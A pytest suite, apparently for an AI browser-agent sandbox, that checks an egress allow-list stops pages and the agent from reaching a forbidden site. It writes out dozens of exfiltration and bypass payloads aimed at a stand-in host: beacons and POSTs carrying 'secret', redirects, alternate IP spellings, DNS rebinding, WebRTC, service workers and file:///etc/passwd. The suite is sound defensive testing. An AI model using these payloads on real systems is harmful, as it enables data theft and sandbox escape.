"""Every way we know out of an allow-list, each tried by a real page. The forbidden site must never hear of it."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass
from typing import Any

import pytest

from holotron.env.browser.environment import BrowserEnv
from holotron.env.environment import Observation
from holotron.env.errors import Refused
from holotron.env.safety.egress_proxy import EgressProxy
from holotron.env.safety.policy import SafetyPolicy
from tests.env.driver import World, observe_until
from tests.env.site import Datagrams, Site, redirect, slowly

# What pages do as soon as they are loaded. EVIL and PORT stand for the forbidden site.
ATTEMPTS = {
    "image": "<img src='EVIL/'>",
    "picture-set": "<img srcset='EVIL/ 1x'>",
    "stylesheet": "<link rel=stylesheet href='EVIL/'>",
    "style-import": "<style>@import 'EVIL/';</style>",
    "style-image": "<style>body { background: url('EVIL/') }</style>",
    "font": "<style>@font-face { font-family: f; src: url('EVIL/') } p { font-family: f }</style><p>text",
    "script": "<script src='EVIL/'></script>",
    "module": "<script type=module>import 'EVIL/';</script>",
    "fetch": "<script>fetch('EVIL/', {mode: 'no-cors'})</script>",
    "fetch-post": "<script>fetch('EVIL/', {mode: 'no-cors', method: 'POST', body: 'secret'})</script>",
    "fetch-kept-alive": "<script>fetch('EVIL/', {mode: 'no-cors', keepalive: true})</script>",
    "xhr": "<script>x = new XMLHttpRequest(); x.open('GET', 'EVIL/'); x.send()</script>",
    "beacon": "<script>navigator.sendBeacon('EVIL/', 'secret')</script>",
    "ping": "<a id=a href='#here' ping='EVIL/'>x</a><script>a.click()</script>",
    "socket": "<script>new WebSocket('ws://127.0.0.1:PORT/')</script>",
    "event-source": "<script>new EventSource('EVIL/')</script>",
    "video": "<video src='EVIL/' autoplay></video>",
    "embedded-object": "<object data='EVIL/'></object>",
    "worker": '<script>new Worker(URL.createObjectURL(new Blob([\'fetch("EVIL/", {mode: "no-cors"})\'])))</script>',
    "worker-import": "<script>new Worker(URL.createObjectURL(new Blob(['importScripts(\"EVIL/\")'])))</script>",
    "prefetch": "<link rel=prefetch href='EVIL/'>",
    "preload": "<link rel=preload as=image href='EVIL/'>",
    "module-preload": "<link rel=modulepreload href='EVIL/'>",
    "preconnect": "<link rel=preconnect href='EVIL/'>",
    "speculation": """<script type=speculationrules>{"prefetch": [{"urls": ["http://localhost:PORT/"],
        "eagerness": "immediate"}], "prerender": [{"urls": ["EVIL/"], "eagerness": "immediate"}]}</script>""",
    "frame": "<iframe src='EVIL/'></iframe>",
    "frame-in-frame": "<iframe srcdoc=\"<iframe src='EVIL/'></iframe>\"></iframe>",
    "sandboxed-frame": "<iframe sandbox='allow-scripts' srcdoc=\"<img src='EVIL/'>\"></iframe>",
    "data-frame": "<iframe src=\"data:text/html,<img src='EVIL/'>\"></iframe>",
    "blob-frame": """<iframe id=f></iframe>
        <script>f.src = URL.createObjectURL(new Blob(["<img src='EVIL/'>"], {type: 'text/html'}))</script>""",
    "blob-page": """<script>location = URL.createObjectURL(new Blob(["<img src='EVIL/'>"], {type: 'text/html'}))
        </script>""",
    "blob-window": """<script>open(URL.createObjectURL(new Blob(["<img src='EVIL/'>"], {type: 'text/html'})))
        </script>""",
    "javascript-url": "<a id=a href=\"javascript:fetch('EVIL/', {mode: 'no-cors'})\">x</a><script>a.click()</script>",
    "written-window": "<script>open('about:blank').document.write(\"<img src='EVIL/'>\")</script>",
    "meta-refresh": "<meta http-equiv=refresh content='0; url=EVIL/'>",
    "location": "<script>location = 'EVIL/'</script>",
    "location-replace": "<script>setTimeout(() => location.replace('EVIL/'))</script>",
    "form": "<form id=f method=post action='EVIL/'><input name=a value=secret></form><script>f.submit()</script>",
    "form-in-frame": """<iframe name=inside></iframe><form id=f method=post action='EVIL/' target=inside></form>
        <script>f.submit()</script>""",
    "form-in-tab": "<form id=f method=post action='EVIL/' target=_blank></form><script>f.submit()</script>",
    "window": "<script>open('EVIL/')</script>",
    "window-without-opener": "<script>open('EVIL/', '', 'noopener')</script>",
    "window-then-location": "<script>w = open('about:blank'); setTimeout(() => w.location = 'EVIL/')</script>",
    "new-tab-link": "<a id=a target=_blank href='EVIL/'>x</a><script>a.click()</script>",
    "download-link": "<a id=a download href='EVIL/'>x</a><script>a.click()</script>",
    "redirected-page": "<script>location = '/hop'</script>",
    "redirected-window": "<script>open('/hop')</script>",
    "redirected-frame": "<iframe src='/hop'></iframe>",
    "redirected-image": "<img src='/hop'>",
    "redirected-fetch": "<script>fetch('/hop', {mode: 'no-cors'})</script>",
    "redirected-form": "<form id=f method=post action='/hop'></form><script>f.submit()</script>",
    "credentials-in-front": "<script>location = 'http://GOOD@127.0.0.1:PORT/'</script>",
    "other-spelling": "<img src='http://2130706433:PORT/'>",
    "short-spelling": "<img src='http://127.1:PORT/'>",
    "mapped-address": "<img src='http://[::ffff:127.0.0.1]:PORT/'>",
    "local-name": "<img src='http://localhost:PORT/'>",
}
# A browser that is told not to guess names ahead does not connect ahead either.
UNTRIED = {"preconnect"}
NAVIGATIONS = {
    "meta-refresh",
    "location",
    "location-replace",
    "form",
    "redirected-page",
    "redirected-form",
    "blob-page",
}


@pytest.fixture
def sites() -> Iterator[tuple[Site, Site]]:
    with Site() as good, Site({"/": ("<title>evil</title>")}) as evil:
        good.pages |= {
            "/hop": redirect("/hop2"),
            "/hop2": redirect(f"{evil.origin}/"),
            "/start": "<title>start</title>",
        }
        yield good, evil


def write(attempt: str, good: Site, evil: Site) -> str:
    page = attempt.replace("EVIL", evil.origin).replace("PORT", str(evil.port)).replace("GOOD", f"{good.host}%3A80")
    return f"<!doctype html><title>attempt</title><body>{page}"


def refusals(seen: list[Any]) -> list[Any]:
    return [refusal for observation in seen for refusal in observation.refusals]


@dataclass
class Attempt:
    """What an attempt did. The forbidden site is its own, so that what it caused is told from all else."""

    evil: Site
    refusals: list[Any]
    is_home: bool  # the page stayed, or the one before it came back; no tab showed anything else


@pytest.fixture(scope="module")
def attempts(world: World) -> Iterator[dict[str, Attempt]]:
    """Every attempt, made by pages of three browsers. The sites listen until the last test has looked at them."""
    made: dict[str, Attempt] = {}

    async def make_all(good: Site, names: list[str]) -> None:
        async with world.env(good.origin, settle_seconds=2.0) as env:
            for name in names:
                evil = stack.enter_context(Site({"/": "<title>evil</title>"}))
                good.pages |= {
                    "/start": "<title>start</title>",
                    "/hop": redirect("/hop2"),
                    "/hop2": redirect(f"{evil.origin}/"),
                    "/": write(ATTEMPTS[name], good, evil),
                }
                await env.goto(f"{good.origin}/start")
                while len((await env.observe()).tabs) > 1:
                    await env.close_tab()
                await env.goto(f"{good.origin}/")

                # A page of the browser's own making has no port, and one attempt alone goes to such a one.
                marks = (f":{evil.port}", *(("blob:",) if name == "blob-page" else ()))

                def own(seen: list[Observation], marks: tuple[str, ...] = marks) -> list[Any]:
                    return [each for each in refusals(seen) if any(mark in each.target for mark in marks)]

                def is_home(seen: list[Observation]) -> bool:
                    urls = (seen[-1].url, *(tab.url for tab in seen[-1].tabs))
                    return all(url.startswith((good.origin, "about:blank")) for url in urls)

                seen = await observe_until(env, own, 0.5 if name in UNTRIED else 30.0)
                seen += await observe_until(env, is_home, 30.0)
                made[name] = Attempt(evil, own(seen), is_home(seen))

    async def run() -> None:
        names = list(ATTEMPTS)
        await asyncio.gather(*(make_all(good, names[part::3]) for part, good in enumerate(goods)))

    with ExitStack() as stack:
        goods = [stack.enter_context(Site()) for _ in range(3)]
        world.run(run(), seconds=600)
        yield made


@pytest.mark.parametrize("name", ATTEMPTS)
def test_the_forbidden_site_hears_nothing(attempts: dict[str, Attempt], name: str) -> None:
    made = attempts[name]
    assert made.refusals or name in UNTRIED, "the attempt was not even made"
    assert made.is_home
    if name in NAVIGATIONS:
        assert any(refusal.kind == "navigation" for refusal in made.refusals)
    assert made.evil.hits == []
    assert made.evil.connections == 0


# Some spellings are not to be had everywhere, and a page that is not shown does not prove much; the rest must arrive.
UNPROVEN = {"mapped-address", "preconnect", "speculation"}


def test_the_attempts_would_succeed(world: World, sites: tuple[Site, Site]) -> None:
    """All of the above reach the site when it is allowed: the tests above test something."""
    good, evil = sites
    for name, attempt in ATTEMPTS.items():
        page = write(attempt, good, evil).replace(f"{evil.origin}/", f"{evil.origin}/?{name}")
        good.pages[f"/{name}"] = page.replace(f":{evil.port}/'", f":{evil.port}/?{name}'").replace(
            "/hop", f"/hop-{name}"
        )
        good.pages[f"/hop-{name}"] = redirect(f"{evil.origin}/?{name}")

    def missing() -> set[str]:
        return {name for name in ATTEMPTS if f"/?{name}" not in evil.hits} - UNPROVEN

    async def attempt_all(names: list[str]) -> None:
        origins = (good.origin, evil.origin, f"http://localhost:{evil.port}")
        async with world.env(*origins, most_tabs=1000, settle_seconds=2.0) as env:
            for name in names:
                await env.goto(f"{good.origin}/{name}")
                for _ in range(100):
                    if name not in missing():
                        break
                    await asyncio.sleep(0.02)
                while len((await env.observe()).tabs) > 1:
                    await env.close_tab()

    async def run() -> None:
        names = sorted(set(ATTEMPTS) - UNPROVEN - {"blob-page", "blob-window"})
        await asyncio.gather(*(attempt_all(names[part::3]) for part in range(3)))

    world.run(run())
    assert missing() <= {"blob-page", "blob-window"}


# ---- what the agent itself asks for ----


@pytest.fixture(scope="module")
def stays(world: World) -> Iterator[tuple[BrowserEnv, Site]]:
    """A browser that may visit one site."""
    with Site({"/start": "<title>start</title>"}) as good:
        opened = world.env(good.origin)
        yield world.run(opened.__aenter__()), good
        world.run(opened.__aexit__(None, None, None))


@pytest.mark.parametrize(
    "address",
    [
        "EVIL/",
        "127.0.0.1:PORT",
        "http://localhost:PORT/",
        "http://good.example@127.0.0.1:PORT/",
        "http://127.0.0.1:GOODPORT\\@127.0.0.1:PORT/",
        "data:text/html,<img src='EVIL/'>",
        "javascript:fetch('EVIL/')",
        "blob:EVIL/0",
        "file:///etc/passwd",
        "view-source:EVIL/",
        "chrome://version",
        "chrome:version",
        "about:memory",
        "filesystem:EVIL/temporary/a",
        "ftp://127.0.0.1:PORT/",
        "ws://127.0.0.1:PORT/",
        "mailto:somebody@example.com",
        "devtools://devtools/bundled/inspector.html",
    ],
)
async def test_the_agent_cannot_go_there(
    world: World, stays: tuple[BrowserEnv, Site], evil: Site, address: str
) -> None:
    env, good = stays
    address = address.replace("GOODPORT", str(good.port)).replace("EVIL", evil.origin).replace("PORT", str(evil.port))
    await env.goto(f"{good.origin}/start")
    with pytest.raises(Refused):
        await env.goto(address)
    seen = await env.observe()
    assert seen.url == f"{good.origin}/start"
    assert len(seen.refusals) == 1
    assert seen.refusals[0].rule
    assert evil.connections == 0


async def test_the_agent_is_not_redirected_there(world: World, sites: tuple[Site, Site]) -> None:
    good, evil = sites
    async with world.env(good.origin) as env:
        await env.goto(f"{good.origin}/start")
        with pytest.raises(Refused, match="not among the allowed origins"):
            await env.goto(f"{good.origin}/hop")
        seen = await env.observe()
        assert seen.url == f"{good.origin}/start"
        assert [r.target for r in seen.refusals if r.kind == "navigation"] == [f"{evil.origin}/"]
    assert evil.connections == 0


# ---- names ----


async def test_a_name_that_leads_to_this_machine(world: World, evil: Site) -> None:
    """DNS rebinding: the name is allowed, or anything is; the address is not."""

    async def resolve(host: str, port: int) -> list[str]:
        assert host == "evil.example"
        return ["127.0.0.1"]

    url = f"http://evil.example:{evil.port}"
    for policy in (SafetyPolicy([url]), SafetyPolicy(), SafetyPolicy([f"http://*.example:{evil.port}"])):
        async with world.env(safety=policy, resolve=resolve) as env:
            with pytest.raises(Refused, match=r"resolves to 127\.0\.0\.1"):
                await env.goto(f"{url}/")
            assert (await env.observe()).url == "about:blank"
    assert evil.connections == 0
    async with world.env(safety=SafetyPolicy([url], allow_private=True), resolve=resolve) as env:
        await env.goto(f"{url}/")
        assert (await env.observe()).title == "evil"


async def test_a_name_that_changes_its_address(world: World, evil: Site) -> None:
    """What was checked is what is connected to, however often the name is asked for."""
    answers = iter(["93.184.216.34"])

    async def resolve(host: str, port: int) -> list[str]:
        return [next(answers, "127.0.0.1")]

    async with world.env(safety=SafetyPolicy(), resolve=resolve) as env:
        with pytest.raises(Refused):
            await env.goto(f"http://evil.example:{evil.port}/")
    assert evil.connections == 0


async def test_anything_public_is_not_this_machine(world: World, evil: Site) -> None:
    async with world.env(safety=SafetyPolicy()) as env:
        for host in ("127.0.0.1", "localhost", "0.0.0.0", "[::1]"):
            with pytest.raises(Refused, match="private network"):
                await env.goto(f"http://{host}:{evil.port}/")
    assert evil.connections == 0


# ---- what is not a request ----


async def test_no_datagrams(world: World, good: Site, evil: Site) -> None:
    """WebRTC and WebTransport have ways of their own, which lead through no proxy."""
    datagrams = Datagrams()
    good.pages["/"] = """<script>
      const server = {username: "a", credential: "b"};
      const peer = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:UDP"},
        {urls: "turn:127.0.0.1:UDP?transport=udp", ...server},
        {urls: "turn:127.0.0.1:PORT?transport=tcp", ...server}]});
      const gathered = new Promise(resolve => peer.onicecandidate = event => event.candidate || resolve());
      peer.createDataChannel("x");
      peer.createOffer().then(offer => peer.setLocalDescription(offer));
      const tried = new WebTransport("https://127.0.0.1:UDP/").ready.catch(() => 0);
      Promise.all([gathered, tried]).then(() => document.title = "tried");
    </script>""".replace("UDP", str(datagrams.port)).replace("PORT", str(evil.port))
    async with world.at(good.origin) as env:
        seen = await observe_until(env, lambda seen: seen[-1].title == "tried")
        assert seen[-1].title == "tried"
    assert datagrams.count() == 0
    assert evil.connections == 0
    datagrams.close()


@pytest.mark.parametrize("anywhere", [False, True])
async def test_service_workers_are_blocked(world: World, good: Site, evil: Site, anywhere: bool) -> None:
    good.pages["/worker.js"] = (
        200,
        {"content-type": "text/javascript"},
        f"oninstall = () => fetch('{evil.origin}/', {{mode: 'no-cors'}})",
    )
    good.pages["/"] = """<script>
      navigator.serviceWorker.register("/worker.js").then(() => "installed", () => "blocked")
        .then(result => Promise.race([navigator.serviceWorker.ready.then(() => "ready"),
          new Promise(resolve => setTimeout(() => resolve(result), 300))]))
        .then(text => document.title = "tried " + text)
    </script>"""
    safety = SafetyPolicy(None if anywhere else [good.origin], allow_private=[good.host])
    async with world.env(safety=safety) as env:
        await env.goto(f"{good.origin}/")
        seen = await observe_until(env, lambda seen: seen[-1].title.startswith("tried"))
        assert seen[-1].title.startswith("tried")
        assert seen[-1].title != "tried ready"
    assert evil.connections == 0
    assert "/worker.js" not in good.hits


def test_a_service_worker_does_not_get_around_the_egress_proxy(world: World, good: Site) -> None:
    """Even in a context that does not block them, what they fetch is checked all the same."""
    with Site() as evil:
        good.pages["/worker.js"] = (
            200,
            {"content-type": "text/javascript"},
            f"oninstall = event => event.waitUntil(fetch('{evil.origin}/', {{mode: 'no-cors'}}).catch(() => 0))",
        )
        good.pages["/"] = "<script>navigator.serviceWorker.register('/worker.js')</script>"

        async def run() -> None:
            refused: list[str] = []
            proxy = EgressProxy(SafetyPolicy([good.origin]), lambda place, rule: refused.append(place))
            await proxy.start()
            lease = await world.browsers.open_context(proxy={"server": proxy.address, "bypass": "<-loopback>"})
            page = await lease.context.new_page()
            await page.goto(f"{good.origin}/")
            for _ in range(100):
                if refused:
                    break
                await asyncio.sleep(0.02)
            await lease.close()
            await proxy.close()
            assert refused == [f"127.0.0.1:{evil.port}"]

        world.run(run())
        assert evil.connections == 0


async def test_pages_of_later_tabs_are_checked_too(world: World, sites: tuple[Site, Site]) -> None:
    good, evil = sites
    good.pages["/"] = "<a href='/second' target=_blank style='font-size: 80px'>open</a>"
    good.pages["/second"] = f"<title>second</title><a href='{evil.origin}/' style='font-size: 80px'>leave</a>"
    async with world.at(good.origin) as env:
        await env.click(60, 50)
        assert (await env.observe()).title == "second"
        await env.click(60, 50)
        seen = await env.observe()
        assert seen.url == f"{good.origin}/second"
        # The full browser also tries to connect as soon as the button is down.
        assert [r.target for r in seen.refusals if r.kind == "navigation"] == [f"{evil.origin}/"]
    assert evil.connections == 0


async def test_a_slow_redirect_after_the_action_is_refused_too(world: World, sites: tuple[Site, Site]) -> None:
    good, evil = sites
    good.pages["/slow"] = slowly(0.3, redirect(f"{evil.origin}/"))
    good.pages["/"] = "<script>setTimeout(() => location = '/slow', 50)</script>"
    async with world.at(good.origin, settle_seconds=0.05) as env:
        seen = await observe_until(env, refusals)
        assert refusals(seen)
        assert seen[-1].url == f"{good.origin}/"
    assert evil.connections == 0
